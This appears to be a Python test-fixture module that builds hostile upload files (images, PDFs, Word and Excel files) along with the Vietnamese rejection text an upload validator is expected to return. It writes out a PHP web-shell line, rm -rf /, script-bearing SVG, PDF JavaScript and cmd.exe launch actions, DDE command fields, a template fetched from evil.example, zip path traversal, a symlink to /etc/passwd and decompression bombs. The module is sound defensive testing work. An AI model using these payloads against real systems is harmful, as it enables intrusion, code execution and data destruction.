"""Files that nobody should trust, each made here, with words of the answer that its owner gets."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import segno
from docx import Document
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from xlsxwriter import Workbook

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CARD = "048085001234|201234567|Nguyễn Văn An|15081985|Nam|Thôn Bao La, xã Quảng Phú|01012022"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLE = bytes.fromhex("D0CF11E0A1B11AE1")


@dataclass(frozen=True)
class Hostile:
    """`says`: words of the refusal; empty where the file is made harmless and kept."""

    about: str
    name: str
    make: Callable[[], bytes]
    says: str = ""


# --- Builders --------------------------------------------------------------------------------------------


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 480), mode: str = "RGB", **more: Any) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(out, kind, **more)
    return out.getvalue()


def png(width: int, height: int, rows: bytes | None = None, colour: int = 2) -> bytes:
    """A PNG whose header promises so many dots; by default with as many black ones, well packed."""
    channels = {0: 1, 2: 3, 6: 4}[colour]
    raw = zlib.compress(b"\0" * ((width * channels + 1) * height), 9) if rows is None else rows
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
        + _chunk(b"IDAT", raw)
        + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def promising(width: int, height: int) -> bytes:
    """A small JPEG whose header promises so many dots."""
    content = bytearray(picture())
    place = content.index(b"\xff\xc0") + 5
    content[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def many_scans(times: int) -> bytes:
    """A progressive JPEG whose last pass comes again and again."""
    out = io.BytesIO()
    Image.new("RGB", (1600, 1200), "red").save(out, "JPEG", progressive=True)
    content = out.getvalue()
    last = content.rindex(b"\xff\xda")
    return content[:-2] + content[last:-2] * times + content[-2:]


def card(size: int = 1200, turned: int = 0, kind: str = "JPEG") -> bytes:
    """A sheet with the code of a citizen's card on it."""
    code = io.BytesIO()
    segno.make(CARD, error="m").save(code, kind="png", scale=5)
    sheet = Image.new("RGB", (size, size * 3 // 4), "#dfe8ee")
    sheet.paste(Image.open(code).convert("RGB"), (size // 2, size // 8))
    out = io.BytesIO()
    sheet.rotate(turned, expand=True, fillcolor="white").save(out, kind)
    return out.getvalue()


def pdf(pages: int = 1, change: Callable[[PdfWriter], None] | None = None, image: bytes = b"") -> bytes:
    writer = PdfWriter()
    if image:
        drawn = io.BytesIO()
        Image.open(io.BytesIO(image)).save(drawn, "PDF", resolution=100)
        writer.append(PdfReader(drawn))
    else:
        for _ in range(pages):
            writer.add_blank_page(595, 842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def squeezed(content: bytes) -> bytes:
    """The same PDF with its dictionaries inside a compressed object stream, where no search finds a word."""
    import pypdfium2

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    objects = [one for one in writer._objects if one is not None]
    body, offsets = io.BytesIO(), list[tuple[int, int]]()
    for number, one in enumerate(objects, 1):
        offsets.append((number, body.tell()))
        one.write_to_stream(body)
        body.write(b"\n")
    index = " ".join(f"{n} {o}" for n, o in offsets).encode() + b"\n"
    packed = zlib.compress(index + body.getvalue())
    stream_no, xref_no = len(objects) + 1, len(objects) + 2
    head = b"%PDF-1.7\n"
    stream = (
        f"{stream_no} 0 obj\n<</Type/ObjStm/N {len(offsets)}/First {len(index)}/Filter/FlateDecode"
        f"/Length {len(packed)}>>\nstream\n".encode() + packed + b"\nendstream\nendobj\n"
    )
    at = len(head) + len(stream)
    rows = [(0, 0, 65535)] + [(2, stream_no, n - 1) for n, _o in offsets] + [(1, len(head), 0), (1, at, 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    root = writer._root_object.indirect_reference.idnum
    xref = (
        f"{xref_no} 0 obj\n<</Type/XRef/Size {len(rows)}/W[1 4 2]/Root {root} 0 R/Filter/FlateDecode"
        f"/Length {len(table)}>>\nstream\n".encode() + table + b"\nendstream\nendobj\n"
    )
    made = head + stream + xref + f"startxref\n{at}\n%%EOF\n".encode()
    assert len(pypdfium2.PdfDocument(made)) == 1
    return made


def javascript(writer: PdfWriter) -> None:
    script = TextStringObject("app.alert(1)")
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script}
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def launching(writer: PdfWriter) -> None:
    action = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def enclosing(writer: PdfWriter) -> None:
    writer.add_attachment("virus.exe", b"MZ")


def with_xfa(writer: PdfWriter) -> None:
    form = {NameObject("/XFA"): ArrayObject(), NameObject("/Fields"): ArrayObject()}
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(form)


def locked(writer: PdfWriter) -> None:
    writer.encrypt("mat-khau")


def docx(image: bytes = b"") -> bytes:
    document = Document()
    document.add_paragraph("Giấy xác nhận đã học xong lớp tin học.")
    if image:
        document.add_picture(io.BytesIO(image))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    out = io.BytesIO()
    book = Workbook(out)
    book.add_worksheet().write(0, 0, "Danh sách lớp học")
    book.close()
    return out.getvalue()


def archive(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def with_part(name: str, content: bytes, to: Callable[[], bytes] = docx) -> bytes:
    return archive(parts_of(to()) | {name: content})


def replaced(part: str, old: bytes, new: bytes, of: Callable[[], bytes] = docx) -> bytes:
    parts = parts_of(of())
    assert old in parts[part]
    return archive(parts | {part: parts[part].replace(old, new)})


def linked(kind: str, target: str, of: Callable[[], bytes] = docx) -> bytes:
    one = f'<Relationship Id="r99" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    rels = "word/_rels/document.xml.rels"
    return replaced(rels, b"</Relationships>", one.encode() + b"</Relationships>", of)


def with_symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in parts_of(docx()).items():
            made.writestr(name, content)
        link = zipfile.ZipInfo("word/theme/link.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def encrypted_zip() -> bytes:
    content = bytearray(docx())
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        content[place + 8] |= 1
        place += 4
    return bytes(content)


def field(instruction: str) -> bytes:
    run = f"<w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p><w:sectPr"
    return replaced("word/document.xml", b"<w:sectPr", run.encode())


def field_in_pieces() -> bytes:
    halves = (b"<w:r><w:instrText>%s</w:instrText></w:r>" % half for half in (b"DD", b"EAUTO c:\\x"))
    run = b"<w:p>" + b"".join(halves) + b"</w:p>"
    return replaced("word/document.xml", b"<w:sectPr", run + b"<w:sectPr")


def formula(text: str) -> bytes:
    cell = f'<c r="B1"><f>{text}</f></c></row>'
    return replaced("xl/worksheets/sheet1.xml", b"</row>", cell.encode(), xlsx)


# --- The corpus ------------------------------------------------------------------------------------------

PICTURES = [
    Hostile("nothing at all", "ảnh.jpg", lambda: b"", "rỗng"),
    Hostile("ten megabytes and one byte", "ảnh.jpg", lambda: picture() + b"x" * 10 * 2**20, "lớn quá 10 MB"),
    Hostile("SVG with script as PNG", "ảnh.png", lambda: SVG, "là ảnh SVG"),
    Hostile("SVG behind a declaration", "ảnh.svg", lambda: b'<?xml version="1.0"?>\n' + SVG, "là ảnh SVG"),
    Hostile("HTML as JPEG", "ảnh.jpg", lambda: b"<!DOCTYPE html><script>alert(1)</script>", "trang web"),
    Hostile("HTML behind a mark of bytes", "ảnh.jpg", lambda: b"\xef\xbb\xbf <html>", "trang web"),
    Hostile("PHP as JPEG", "ảnh.jpg", lambda: b"<?php system($_GET['c']); ?>", "trang web hoặc mã lệnh"),
    Hostile("shell script", "chay.sh", lambda: b"#!/bin/sh\nrm -rf /", "chương trình chạy được"),
    Hostile("program as JPEG", "ảnh.jpg", lambda: b"MZ" + b"\0" * 500, "chương trình chạy được"),
    Hostile("Linux program", "ảnh.png", lambda: b"\x7fELF" + b"\0" * 500, "chương trình chạy được"),
    Hostile("virus test text", "ảnh.jpg", lambda: EICAR, "không phải ảnh hay văn bản nhận được"),
    Hostile("plain text", "ghi chép.txt", lambda: b"chao", "không phải ảnh hay văn bản nhận được"),
    Hostile("GIF", "ảnh.gif", lambda: picture("GIF", mode="P"), "GIF, BMP hoặc TIFF"),
    Hostile("TIFF as JPEG", "ảnh.jpg", lambda: picture("TIFF"), "GIF, BMP hoặc TIFF"),
    Hostile("HEIC of a telephone", "IMG_1.HEIC", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 99, "HEIC"),
    Hostile("film", "phim.mp4", lambda: b"\0\0\0\x18ftypisom" + b"\0" * 99, "phim hoặc âm thanh"),
    Hostile("100 megapixels, honest", "ảnh.png",
            lambda: png(10_000, 10_000), "quá nhiều điểm ảnh (100 triệu"),
    Hostile("100 megapixels, JPEG", "ảnh.jpg", lambda: promising(10_000, 10_000), "quá nhiều điểm ảnh (100"),
    Hostile("four gigapixels", "ảnh.jpg", lambda: promising(65_500, 65_500), "quá nhiều điểm ảnh"),
    Hostile("bomb: more dots than promised", "ảnh.png",
            lambda: png(600, 400, zlib.compress(b"\0" * 300_000_000, 9))),
    Hostile("bomb in a text chunk", "ảnh.png", lambda: picture("PNG")[:33] + _chunk(
        b"zTXt", b"a\0\0" + zlib.compress(b"x" * 200_000_000, 9)) + picture("PNG")[33:], "bị hỏng"),
    Hostile("PNG with no dots", "ảnh.png", lambda: png(600, 400, b""), "bị hỏng"),
    Hostile("PNG with dots missing", "ảnh.png", lambda: png(600, 400, zlib.compress(b"\0" * 900)), "bị hỏng"),
    Hostile("zero width", "ảnh.png", lambda: png(0, 400), "bị hỏng"),
    Hostile("a thread of dots", "ảnh.png", lambda: png(20_000, 20), "dài và hẹp quá"),
    Hostile("a single dot", "ảnh.png", lambda: png(1, 1), "nhỏ quá"),
    Hostile("JPEG cut in half", "ảnh.jpg", lambda: picture()[: len(picture()) // 2], "thiếu phần cuối"),
    Hostile("JPEG of three bytes", "ảnh.jpg", lambda: b"\xff\xd8\xff", "bị hỏng"),
    Hostile("WebP cut in half", "ảnh.webp", lambda: picture("WEBP")[:900], "bị hỏng"),
    Hostile("1,000 passes", "ảnh.jpg", lambda: many_scans(1_000), "bị hỏng"),
    Hostile("JPEG called PDF", "giấy.pdf", lambda: picture(), "bên trong là ảnh JPEG"),
    Hostile("JPEG called program", "giấy.jpg.exe", lambda: picture(), "có đuôi .exe"),
    Hostile("PDF called JPEG", "giấy.jpg", pdf, "bên trong là tệp PDF"),
    Hostile("JPEG with a zip behind it", "ảnh.jpg", lambda: picture() + archive({"x.exe": b"MZ"})),
    Hostile("JPEG with PHP in its comment", "ảnh.jpg", lambda: picture(comment=b"<?php system('id') ?>")),
    Hostile("PNG with HTML behind it", "ảnh.png", lambda: picture("PNG") + b"<script>alert(1)</script>"),
    Hostile("JPEG with a virus test text", "ảnh.jpg", lambda: picture(comment=EICAR) + EICAR),
    Hostile("damaged notes on the picture", "ảnh.jpg", lambda: picture(exif=b"Exif\0\0MM\0*" + b"\xff" * 40)),
    Hostile("damaged colour profile", "ảnh.jpg", lambda: picture(icc_profile=b"\xff" * 300)),
]  # fmt: skip

CARDS = [
    Hostile("card with code", "ảnh 1.jpg", card, "mã QR của thẻ căn cước"),
    *(Hostile(f"card turned by {angle}", "ảnh 1.jpg", lambda angle=angle: card(turned=angle), "mã QR của thẻ")
      for angle in (90, 180, 270, 25)),
    Hostile("card on a large photo", "ảnh.png", lambda: card(3800, kind="PNG"), "mã QR của thẻ"),
    Hostile("card in a PDF", "giấy.pdf", lambda: pdf(image=card()), "mã QR của thẻ căn cước"),
    Hostile("card in a Word file", "giấy.docx", lambda: docx(card()), "mã QR của thẻ căn cước"),
    Hostile("card by its name", "CCCD mặt trước.jpg", picture, "theo tên là giấy tờ tùy thân"),
    Hostile("card by its unmarked name", "can_cuoc-mat-sau.PNG",
            lambda: picture("PNG"), "theo tên là giấy tờ"),
    Hostile("passport", "Hộ chiếu.pdf", pdf, "theo tên là giấy tờ"),
    Hostile("number in the name", "048 085 001 234.jpg", picture, "số căn cước trong tên"),
]  # fmt: skip

PDFS = [
    Hostile("JavaScript", "giấy.pdf", lambda: pdf(change=javascript), "mã lệnh hoặc nút tự chạy"),
    Hostile("JavaScript out of sight", "giấy.pdf",
            lambda: squeezed(pdf(change=javascript)), "mã lệnh hoặc nút"),
    Hostile("JavaScript by another spelling", "giấy.pdf",
            lambda: pdf(change=javascript).replace(b"/JavaScript", b"/J#61vaScript"), "mã lệnh hoặc nút"),
    Hostile("starts a program", "giấy.pdf", lambda: pdf(change=launching), "mã lệnh hoặc nút tự chạy"),
    Hostile("starts a program, out of sight", "giấy.pdf", lambda: squeezed(pdf(change=launching)), "mã lệnh"),
    Hostile("file inside", "giấy.pdf", lambda: pdf(change=enclosing), "kèm bên trong"),
    Hostile("XFA form", "giấy.pdf", lambda: pdf(change=with_xfa), "biểu mẫu điền trên máy"),
    Hostile("password", "giấy.pdf", lambda: pdf(change=locked), "có mật khẩu"),
    Hostile("51 pages", "giấy.pdf", lambda: pdf(51), "quá 50 trang"),
    Hostile("no page", "giấy.pdf", lambda: pdf(0), "bị hỏng"),
    Hostile("zip behind it", "giấy.pdf", lambda: pdf() + archive({"x.exe": b"MZ"}), "một tệp khác giấu"),
    Hostile("HTML behind it", "giấy.pdf", lambda: pdf() + b"<script>" * 400, "một tệp khác giấu"),
    Hostile("virus test text behind it", "giấy.pdf", lambda: pdf() + EICAR, "diệt virus"),
    Hostile("only its first line", "giấy.pdf", lambda: b"%PDF-1.7\n", "bị hỏng"),
    Hostile("first and last line", "giấy.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "bị hỏng"),
    Hostile("cut short", "giấy.pdf", lambda: pdf(3)[:-200], "bị hỏng"),
    Hostile("HTML before it", "giấy.pdf", lambda: b"<html>" + pdf(), "trang web"),
    Hostile("text called PDF", "giấy.pdf", lambda: b"chao", "không phải ảnh hay văn bản"),
]  # fmt: skip

OFFICE = [
    Hostile("path out of the zip", "giấy.docx", lambda: with_part("../../etc/x.xml", b"x"), "không an toàn"),
    Hostile("absolute path", "giấy.docx", lambda: with_part("/etc/cron.d/x.xml", b"x"), "không an toàn"),
    Hostile("path of Windows", "giấy.docx", lambda: with_part("..\\x.xml", b"x"), "không an toàn"),
    Hostile("symbolic link", "giấy.docx", with_symlink, "không an toàn"),
    Hostile("bomb of one part", "giấy.docx",
            lambda: with_part("word/media/a.png", b"\0" * 60_000_000), "phình ra"),
    Hostile("bomb of many entries", "giấy.docx",
            lambda: archive(parts_of(docx()) | {f"word/x{n}.xml": b"" for n in range(2_100)}), "phình ra"),
    Hostile("entities of XML", "giấy.docx", lambda: with_part(
        "word/x.xml", b'<!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>'), "bị hỏng"),
    Hostile("macro", "giấy.docx", lambda: with_part("word/vbaProject.bin", OLE), "có macro"),
    Hostile("macro by its type", "giấy.docx", lambda: replaced(
        "[Content_Types].xml", b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml"), "có macro"),
    Hostile("object inside", "giấy.docx",
            lambda: with_part("word/embeddings/oleObject1.bin", OLE), "kèm bên trong"),
    Hostile("program inside", "giấy.docx", lambda: with_part("word/setup.exe", b"MZ"), "kèm bên trong"),
    Hostile("virus test text inside", "giấy.docx", lambda: with_part("word/a.txt", EICAR), "kèm bên trong"),
    Hostile("template from elsewhere", "giấy.docx",
            lambda: linked("attachedTemplate", "http://evil.example/x.dotm"), "từ nơi khác"),
    Hostile("picture from elsewhere", "giấy.docx",
            lambda: linked("image", "file://srv/x.png"), "từ nơi khác"),
    Hostile("link to a file", "giấy.docx", lambda: linked("hyperlink", "file:///c:/x.exe"), "từ nơi khác"),
    Hostile("ordinary link", "giấy.docx", lambda: linked("hyperlink", "https://hoc.vn/lop")),
    Hostile("DDE field", "giấy.docx", lambda: field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "từ nơi khác"),
    Hostile("DDE field in pieces", "giấy.docx", field_in_pieces, "từ nơi khác"),
    Hostile("page number field", "giấy.docx", lambda: field("PAGE")),
    Hostile("DDE formula", "bảng.xlsx", lambda: formula("cmd|'/c calc'!A0"), "từ nơi khác"),
    Hostile("formula that calls the web", "bảng.xlsx",
            lambda: formula('WEBSERVICE("http://x")'), "từ nơi khác"),
    Hostile("other book", "bảng.xlsx", lambda: with_part("xl/externalLinks/externalLink1.xml", b"<x/>", xlsx),
            "kèm bên trong"),
    Hostile("zip called Word", "giấy.docx", lambda: archive({"a.txt": b"x"}), "tệp nén"),
    Hostile("Java archive", "giấy.docx", lambda: archive({"META-INF/MANIFEST.MF": b"x"}), "tệp nén"),
    Hostile("Excel called Word", "giấy.docx", xlsx, "bên trong là tệp Excel"),
    Hostile("old Word or password", "giấy.docx", lambda: OLE + b"\0" * 2000, "có mật khẩu"),
    Hostile("encrypted parts", "giấy.docx", encrypted_zip, "có mật khẩu"),
    Hostile("something before the zip", "giấy.docx", lambda: b"MZ" + docx(), "chương trình chạy được"),
    Hostile("something behind the zip", "giấy.docx",
            lambda: docx() + b"GIF89a" + b"\0" * 500, "tệp khác giấu"),
    Hostile("cut short", "giấy.docx", lambda: docx()[:-300], "tệp nén"),
    Hostile("damaged part", "giấy.docx", lambda: docx().replace(b"PK\x03\x04", b"PK\x03\x05").replace(
        b"PK\x03\x05", b"PK\x03\x04", 1), "bị hỏng"),
    Hostile("RAR", "giấy.rar", lambda: b"Rar!\x1a\x07\0" + b"x" * 99, "tệp nén"),
]  # fmt: skip

SOUND = [
    Hostile("PDF", "giấy xác nhận.pdf", lambda: pdf(2)),
    Hostile("PDF without readable dictionaries", "giấy.pdf", lambda: squeezed(pdf())),
    Hostile("Word", "giấy.docx", lambda: docx(picture())),
    Hostile("Excel", "bảng.xlsx", xlsx),
    Hostile("PNG called JPEG", "ảnh.jpg", lambda: picture("PNG")),
    Hostile("no ending", "image", picture),
]
CORPUS = [*PICTURES, *CARDS, *PDFS, *OFFICE, *SOUND]
